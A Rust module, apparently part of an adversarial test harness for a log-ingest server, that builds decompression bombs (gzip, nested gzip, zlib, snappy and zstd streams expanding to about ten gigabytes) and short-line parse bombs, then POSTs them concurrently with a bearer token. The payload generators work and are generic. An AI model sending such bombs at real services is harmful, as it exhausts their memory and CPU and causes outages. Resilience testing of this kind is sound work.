//! Small bodies that decompress into ten gigabytes, or into what is long to parse.

use std::io::Write;
use std::sync::Arc;

use flate2::{Compress, Compression, Crc, FlushCompress, Status};
use futures::future::BoxFuture;

use super::door::attacker;
use super::http;
use super::stage::{AGAIN, Stage};

pub(crate) const ZEROS: u64 = 10 << 30;
/// Zeros that are compressed; a bomb repeats the outcome.
const PIECE: usize = 16 << 20;
/// The most that a block of zstd stands for.
const BLOCK: u64 = 128 << 10;
/// Just below `server.batch_bytes_max`.
pub(crate) const ALMOST: usize = 31 << 20;

/// A body and the headers that it is sent with.
pub(crate) type Bomb = (&'static str, Vec<u8>);

/// Bodies of zeros: more bytes than the server takes.
pub(crate) fn zeros(stage: Arc<Stage>) -> BoxFuture<'static, ()> {
    Box::pin(async move {
        let gzip = gzip_zeros(ZEROS);
        let nested = gzip_of(&gzip);
        let bombs = vec![
            ("Content-Encoding: x-gzip\r\n", gzip.clone()),
            ("Content-Encoding: gzip\r\n", gzip),
            ("Content-Encoding: gzip, gzip\r\n", nested),
            ("Content-Encoding: deflate\r\n", zlib_zeros(ZEROS)),
            (
                "Content-Encoding: snappy\r\n",
                snappy_zeros(u32::MAX, ALMOST),
            ),
            (
                "Content-Encoding: snappy\r\n",
                snappy_zeros(2 * ALMOST as u32 + 1, 2 * ALMOST),
            ),
            ("Content-Encoding: zstd\r\n", zstd_zeros(ZEROS, 20)),
            ("Content-Encoding: zstd\r\n", zstd_zeros(ZEROS, 27)),
            ("Content-Encoding: zstd\r\n", zstd_zeros(ZEROS, 31)),
        ];
        throw(&stage, bombs).await;
    })
}

/// Bodies within the limit of bytes, with lines so short that their rows are far longer.
pub(crate) fn short_lines(stage: Arc<Stage>) -> BoxFuture<'static, ()> {
    Box::pin(async move {
        let almost = stage.of(4 << 20, ALMOST);
        let of = |line: &str| {
            let lines = line.repeat(almost / line.len());
            ("Content-Encoding: gzip\r\n", gzip_of(lines.as_bytes()))
        };
        let bombs = vec![of("\n"), of("x\n"), of("{}\n"), of("{\"a\":1}\n")];
        throw(&stage, bombs).await;
    })
}

/// Sends the bombs in turn until the end, each over a connection of its own.
pub(crate) async fn throw(stage: &Arc<Stage>, bombs: Vec<Bomb>) {
    let bombs = Arc::new(bombs);
    let number = stage.of(4, 16);
    stage
        .all(number, |stage, which| {
            let bombs = Arc::clone(&bombs);
            async move {
                for turn in which.. {
                    if stage.is_over() {
                        return;
                    }
                    let (encoding, body) = &bombs[turn % bombs.len()];
                    let headers = http::bearer(&stage.tokens.stolen_shipper) + encoding;
                    let line = "POST /api/v1/ingest/bomb";
                    let request = http::request(line, &stage.door.host(), &headers, body);
                    let Ok(connection) = stage.door.connect(attacker(0)).await else {
                        stage.note("closed");
                        tokio::time::sleep(AGAIN).await;
                        continue;
                    };
                    match http::exchange(connection, &request).await {
                        Ok((Some(answer), _)) => stage.note(answer.status.to_string()),
                        _ => stage.note("closed"),
                    }
                }
            }
        })
        .await;
}

pub(crate) fn gzip_of(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).expect("written to memory");
    encoder.finish().expect("written to memory")
}

/// Returns a raw stream of deflate. A piece that ends with a full flush leaves no state, so that
/// its bytes may be repeated: ten gigabytes are not compressed here each time.
fn deflate_zeros(bytes: u64) -> Vec<u8> {
    let zeros = vec![0; PIECE];
    let mut compress = Compress::new(Compression::best(), false);
    let mut piece = Vec::with_capacity(PIECE);
    let status = compress.compress_vec(&zeros, &mut piece, FlushCompress::Full);
    assert_eq!(status.expect("compressed"), Status::Ok);
    assert_eq!(
        compress.total_in(),
        PIECE as u64,
        "a piece is compressed whole"
    );
    let pieces = usize::try_from(bytes).expect("64 bits") / PIECE;
    let mut stream = piece.repeat(pieces);
    // An empty last block.
    stream.extend_from_slice(&[3, 0]);
    stream
}

/// Returns one member of gzip (RFC 1952).
pub(crate) fn gzip_zeros(bytes: u64) -> Vec<u8> {
    let mut of_piece = Crc::new();
    of_piece.update(&vec![0; PIECE]);
    let mut crc = Crc::new();
    for _ in 0..bytes / PIECE as u64 {
        crc.combine(&of_piece);
    }
    let mut gzip = vec![31, 139, 8, 0, 0, 0, 0, 0, 0, 255];
    gzip.extend(deflate_zeros(bytes));
    gzip.extend_from_slice(&crc.sum().to_le_bytes());
    // The length by 2³².
    gzip.extend_from_slice(&((bytes & 0xffff_ffff) as u32).to_le_bytes());
    gzip
}

/// Returns one stream of zlib (RFC 1950), which ends with the Adler checksum of zeros.
fn zlib_zeros(bytes: u64) -> Vec<u8> {
    let mut zlib = vec![0x78, 0xda];
    zlib.extend(deflate_zeros(bytes));
    let sum = ((bytes % 65_521) as u32) << 16 | 1;
    zlib.extend_from_slice(&sum.to_be_bytes());
    zlib
}

/// Returns a block of snappy that announces a length and has so many zeros: a literal zero, and
/// copies of it.
fn snappy_zeros(announced: u32, bytes: usize) -> Vec<u8> {
    let mut block = Vec::new();
    let mut rest = announced;
    while rest > 0x7f {
        block.push((rest & 0x7f) as u8 | 0x80);
        rest >>= 7;
    }
    block.push(rest as u8);
    block.extend_from_slice(&[0, 0]);
    // A copy of 64 bytes from one byte before.
    block.extend([63 << 2 | 2, 1, 0].repeat(bytes / 64));
    block
}

/// Returns a frame of zstd whose blocks are each one byte and a count (RFC 8878, section 3.1.1).
fn zstd_zeros(bytes: u64, window_log: u8) -> Vec<u8> {
    let mut frame = 0xfd2f_b528_u32.to_le_bytes().to_vec();
    frame.extend_from_slice(&[0, (window_log - 10) << 3]);
    let blocks = bytes / BLOCK;
    for block in 1..=blocks {
        let is_last = u32::from(block == blocks);
        let header = (BLOCK as u32) << 3 | 1 << 1 | is_last;
        frame.extend_from_slice(&header.to_le_bytes()[..3]);
        frame.push(0);
    }
    frame
}
